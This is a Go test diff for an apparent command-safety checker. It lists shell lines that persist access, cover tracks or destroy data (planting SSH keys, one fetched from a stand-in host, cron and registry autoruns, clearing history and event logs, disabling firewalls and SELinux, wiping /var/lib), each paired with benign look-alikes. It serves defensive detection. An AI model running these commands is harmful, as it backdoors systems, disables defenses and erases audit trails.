@@ -176,3 +176,39 @@ func TestCodeClassesPerLanguage(t *testing.T) {
 		}
 	}
 }
+
+// TestPersistenceAndCoverTracks: commands that make something run again
+// later or erase what was run, and the everyday commands beside them.
+// The lines are written for this test.
+func TestPersistenceAndCoverTracks(t *testing.T) {
+	for line, want := range map[string]string{
+		"echo 'ssh-ed25519 AAAAC3Nz user@host' >> ~/.ssh/authorized_keys":                       RuleCodePersistence,
+		"curl -s https://x.example/k.pub | tee -a /root/.ssh/authorized_keys":                   RuleCodePersistence,
+		"(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -":                                  RuleCodePersistence,
+		`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\x\u.exe`: RuleCodePowerShell,
+		"history -c && unset HISTFILE":                                                          RuleCodeCoverTracks,
+		"rm -f ~/.bash_history":                                                                 RuleCodeCoverTracks,
+		"cat /dev/null > ~/.zsh_history":                                                        RuleCodeCoverTracks,
+		"sudo iptables -F":                                                                      RuleCodeCoverTracks,
+		"sudo systemctl disable --now firewalld":                                                RuleCodeCoverTracks,
+		"setenforce 0":                                                                          RuleCodeCoverTracks,
+		"wevtutil cl Security":                                                                  RuleCodePowerShell,
+		"sudo rm -rf /var/lib/*":                                                                RuleCodeRmRoot,
+		"crontab -l":                                                                            "",
+		"cat ~/.ssh/authorized_keys":                                                            "",
+		"sudo iptables -L -n":                                                                   "",
+		"sudo systemctl restart nginx":                                                          "",
+		"history | grep ssh":                                                                    "",
+		"echo $HISTFILE":                                                                        "",
+		"rm -rf /var/lib/myapp/cache/*":                                                         "",
+		"chmod 600 ~/.ssh/authorized_keys":                                                      "",
+	} {
+		got := ""
+		for _, f := range CheckCode(line) {
+			got = f.Rule
+		}
+		if got != want {
+			t.Errorf("CheckCode(%q) = %q, want %q", line, got, want)
+		}
+	}
+}
